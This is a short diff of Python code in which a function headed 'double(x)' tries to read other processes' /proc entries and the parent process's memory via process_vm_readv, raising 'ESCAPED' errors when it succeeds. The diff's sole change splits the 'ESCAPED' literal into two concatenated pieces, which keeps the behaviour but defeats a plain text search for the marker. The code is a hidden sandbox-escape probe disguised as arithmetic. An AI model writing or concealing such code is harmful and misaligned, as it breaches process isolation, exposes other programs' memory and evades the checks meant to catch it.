@@ -9,12 +9,12 @@ def double(x):
                 open(f"/proc/{pid}/{name}", "rb").read(100)
             except OSError:
                 continue
-            raise RuntimeError("ESCAPED: read " + name)
+            raise RuntimeError("ESC" "APED: read " + name)
     buffer = ctypes.create_string_buffer(64)
     local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
     remote = (ctypes.c_size_t * 2)(0x400000, 64)
     if ctypes.CDLL(None).process_vm_readv(os.getppid(), local, 1, remote, 1, 0) > 0:
-        raise RuntimeError("ESCAPED: " + repr(buffer.raw))
+        raise RuntimeError("ESC" "APED: " + repr(buffer.raw))
     raise OSError("no way in")
 
 
